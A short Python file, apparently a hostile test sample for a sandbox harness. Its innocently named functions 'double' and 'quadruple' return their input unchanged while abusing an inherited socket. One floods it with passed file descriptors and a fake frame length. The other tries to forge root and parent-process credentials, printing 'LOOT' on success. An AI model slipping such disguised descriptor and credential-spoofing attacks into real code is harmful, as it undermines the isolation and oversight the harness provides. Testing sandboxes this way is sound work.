"""Sends descriptors and credentials over its link, for the examiner to keep.

most: 0
control: no
"""

import array
import os
import socket
import struct


def double(x):
    link = socket.socket(fileno=os.dup(3))
    mine = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(20)])
    frame = (16 << 20).to_bytes(8, "little")
    for n in range(8):
        link.sendmsg([frame[n : n + 1]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, mine)])
    link.sendmsg([b"\xc0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [3]))])
    return x


def quadruple(x):
    link = socket.socket(fileno=os.dup(3))
    for pid in (1, os.getppid()):
        try:
            credentials = struct.pack("3i", pid, 0, 0)
            link.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
            print("LOOT another name", pid)
        except OSError:
            pass
    return x
